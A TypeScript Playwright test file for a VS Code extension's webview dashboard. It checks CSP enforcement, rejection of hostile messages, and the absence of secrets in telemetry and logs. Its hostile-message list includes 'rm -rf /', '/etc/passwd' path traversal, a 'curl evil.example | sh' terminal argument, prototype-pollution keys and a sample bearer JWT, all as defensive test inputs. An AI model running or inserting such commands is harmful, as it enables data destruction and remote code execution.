// Privacy and webview security in a real VS Code (issue 8), driven through Chromium:
// - the live dashboard enforces its Content Security Policy (an injected inline script does not run);
// - malformed and hostile messages posted through the webview's own channel change nothing and are
//   each logged as rejected;
// - after the whole UI run (every UI test file), every telemetry event and everything given to the
//   "Azure Scale Sets" output channel is scanned for GUIDs, resource ids, bearer tokens, JWTs and the
//   run's workspace paths — one finding fails the run.
import * as assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import type { Frame } from 'playwright-core';
import { findSensitiveData } from '../../src/shared/redact';
import { workbench, workbenchStartTimeoutMs } from './fixture';
import { channelCopiesDir, logMirrorFile, telemetryCaptureFile, workspacesFile } from './privacyCapture';

const cannedScenarioCommand = 'Azure Scale Sets: Play a Canned Dashboard Scenario (Development)';
const secretId = '/subscriptions/9b8a7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d/resourceGroups/rg-private/providers/Microsoft.Compute/virtualMachineScaleSets/private-set';

/** Messages no dashboard client sends: wrong shapes, unknown types and actions, extra keys, injection attempts. */
const hostileMessages: unknown[] = [
  null,
  'refresh',
  42,
  [],
  {},
  { type: 'run' },
  { type: 'run', action: 'rm -rf /' },
  { type: 'run', action: 'start', scaleSetId: secretId },
  { type: 'gate', gateId: '../../etc/passwd', decision: 'approve' },
  { type: 'gate', gateId: 'g1', decision: 'approve', extra: true },
  { type: 'gate', gateId: 'g1', decision: 'maybe' },
  { type: 'exportHistory', path: '/etc/passwd' },
  { type: 'command', command: 'workbench.action.terminal.new', args: ['curl evil.example | sh'] },
  { type: '__proto__', polluted: true },
  { type: 'constructor' },
  { type: 'refresh', token: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' },
  { type: 'x'.repeat(100_000) },
];

function linesOf(file: string): string[] {
  return existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter(Boolean) : [];
}

const rejectionLines = () => linesOf(logMirrorFile).filter((line) => /rejected a message/.test(line));
const commandEvents = () => linesOf(telemetryCaptureFile).filter((line) => line.includes('"name":"command"'));

interface CspReport {
  readonly csp: string;
  readonly scripts: ReadonlyArray<{ readonly nonce: string; readonly src: string | null; readonly inline: boolean; readonly vscodeShim: boolean }>;
  readonly handlers: readonly string[];
  readonly injectedRan: boolean;
  readonly handlerRan: boolean;
  readonly elements: number;
}

/**
 * Runs inside the dashboard page (browser code, kept as text: the tests compile without DOM types).
 * Reads the policy, the scripts and every attribute, then tries an inline script and an inline handler.
 */
const cspProbe = `(() => {
  const meta = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
  const csp = meta?.getAttribute('content') ?? '';
  const scripts = [...document.scripts].map((s) => ({
    nonce: s.nonce,
    src: s.getAttribute('src'),
    inline: (s.textContent ?? '').trim().length > 0,
    vscodeShim: !!meta && (meta.compareDocumentPosition(s) & Node.DOCUMENT_POSITION_PRECEDING) !== 0 && (s.textContent ?? '').includes('acquireVsCodeApi'),
  }));
  const handlers = [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => el.tagName + '.' + a.name));
  const elements = document.querySelectorAll('*').length;
  const injected = document.createElement('script');
  injected.textContent = 'window.__injectedRan = true;';
  document.body.appendChild(injected);
  const link = document.createElement('a');
  link.setAttribute('onclick', 'window.__handlerRan = true');
  document.body.appendChild(link);
  link.click();
  injected.remove();
  link.remove();
  return { csp, scripts, handlers, injectedRan: window.__injectedRan === true, handlerRan: window.__handlerRan === true, elements };
})()`;

async function waitFor(condition: () => boolean | Promise<boolean>, timeoutMs: number, what: string): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** The outer frame VS Code hosts a webview in; it owns the channel the page's postMessage uses. */
async function visibleWebviewHost(): Promise<Frame> {
  const element = await workbench().page.locator('iframe.webview.ready:visible').first().elementHandle();
  const frame = await element?.contentFrame();
  assert.ok(frame, 'a visible webview');
  return frame;
}

async function openCannedDashboard(): Promise<void> {
  const wb = workbench();
  // Opening the view activates the extension, which then enables its development-only commands.
  await wb.openViewContainer('Azure Scale Sets');
  await waitFor(() => linesOf(telemetryCaptureFile).some((line) => line.includes('"name":"activation"')), 30_000, 'activation');
  await new Promise((resolve) => setTimeout(resolve, 4000)); // its setContext calls land
  await wb.runCommand(cannedScenarioCommand);
  // By name: the list has more than one canned run now (bake-alert-breach.json sorts first).
  await wb.page.locator('.quick-input-list .monaco-list-row', { hasText: 'rolling-20-one-never-healthy.json' }).click();
  await wb.webviewFrame().locator('#run-status').waitFor({ timeout: 30_000 });
}

describe('Privacy and webview security in the workbench', function () {
  this.timeout(workbenchStartTimeoutMs);

  before(async () => {
    await openCannedDashboard();
  });

  it('the live dashboard denies by default, gates scripts by nonce, has no inline handlers, and blocks an injected inline script', async () => {
    const view = workbench().webviewFrame();
    const report = (await view.locator('body').evaluate(cspProbe)) as CspReport;
    assert.ok(report, 'the probe ran in the dashboard page');
    assert.match(report.csp, /(^|;)\s*default-src 'none'/);
    const nonce = /script-src 'nonce-([^']+)'/.exec(report.csp)?.[1];
    assert.ok(nonce, `script-src is nonce-gated: ${report.csp}`);
    assert.doesNotMatch(report.csp, /unsafe-inline|unsafe-eval/);
    // VS Code itself puts its acquireVsCodeApi shim before the page's policy; every script of ours comes after it.
    assert.equal(report.scripts.filter((script) => script.vscodeShim).length, 1, "VS Code's own API shim");
    const ours = report.scripts.filter((script) => !script.vscodeShim);
    assert.ok(ours.length >= 1);
    for (const script of ours) {
      assert.equal(script.nonce, nonce, 'every script carries the page nonce');
      assert.equal(script.inline, false, 'no inline script');
      assert.ok(script.src);
    }
    assert.ok(report.elements > 50, 'the dashboard has rendered');
    assert.deepEqual(report.handlers, [], 'no inline event handlers in the rendered DOM');
    assert.equal(report.injectedRan, false, 'CSP blocks an injected inline script');
    assert.equal(report.handlerRan, false, 'CSP blocks an injected inline handler');
  });

  it('malformed and hostile webview messages change nothing and are each logged as rejected', async () => {
    const wb = workbench();
    const view = wb.webviewFrame();
    // Let the canned run finish so that nothing moves on its own while we watch.
    await view.locator('#run-status[data-status="completedWithFailures"]').waitFor({ timeout: 60_000 });
    const state = async () => ({
      status: await view.locator('#run-status').getAttribute('data-status'),
      counts: await view.locator('[data-count]').allInnerTexts(),
      notifications: await wb.page.locator('.notification-toast').count(),
      editors: await wb.page.locator('.tabs-container .tab').count(),
      terminals: await wb.page.locator('.terminal-outer-container').count(),
    });
    const before = await state();
    const rejectedBefore = rejectionLines().length;
    const commandsBefore = commandEvents().length;

    const host = await visibleWebviewHost();
    for (const message of hostileMessages) {
      // Exactly what the page's acquireVsCodeApi().postMessage calls (VS Code's webview pre/index.html).
      await host.evaluate((m) => (globalThis as unknown as { __vscode_post_message__(channel: string, data: unknown): void }).__vscode_post_message__('onmessage', { message: m }), message);
    }
    await waitFor(() => rejectionLines().length >= rejectedBefore + hostileMessages.length, 15_000, 'one rejection per hostile message in the log');
    await new Promise((resolve) => setTimeout(resolve, 1000)); // anything they might have set off

    assert.equal(rejectionLines().length - rejectedBefore, hostileMessages.length);
    assert.deepEqual(await state(), before, 'the dashboard, notifications, editors and terminals are as they were');
    assert.equal(commandEvents().length, commandsBefore, 'no command ran');
    const logged = rejectionLines().slice(rejectedBefore).join('\n');
    assert.deepEqual(findSensitiveData(logged), [], 'the rejected messages were logged redacted');
  });
});

// Root hook, registered after the fixture's: runs once the whole UI run is over and the fixture has
// stopped the last server and collected its output-channel files.
after(function () {
  const telemetry = linesOf(telemetryCaptureFile);
  const mirror = existsSync(logMirrorFile) ? readFileSync(logMirrorFile, 'utf8') : '';
  const channelFiles = existsSync(channelCopiesDir) ? readdirSync(channelCopiesDir).map((f) => path.join(channelCopiesDir, f)) : [];
  const workspaces = linesOf(workspacesFile);

  // The scan must have something to scan: activation is always measured, the hostile messages were logged.
  assert.ok(telemetry.some((line) => line.includes('"name":"activation"')), `no telemetry captured in ${telemetryCaptureFile}`);
  assert.ok(mirror.length > 0, `nothing captured from the output channel in ${logMirrorFile}`);
  assert.ok(channelFiles.length > 0, `no "Azure Scale Sets" log file was collected into ${channelCopiesDir}`);
  assert.ok(workspaces.length > 0);

  const sources: Array<[string, string]> = [
    [telemetryCaptureFile, telemetry.join('\n')],
    [logMirrorFile, mirror],
    ...channelFiles.map((file): [string, string] => [file, readFileSync(file, 'utf8')]),
  ];
  const findings = sources.flatMap(([file, text]) =>
    findSensitiveData(text, workspaces).map((f) => `${path.relative(process.cwd(), file)}: ${f.kind} ${JSON.stringify(f.match)} in …${text.slice(Math.max(0, f.index - 60), f.index + f.match.length + 20)}…`),
  );
  assert.deepEqual(findings, [], 'private data in telemetry or the output channel');
});
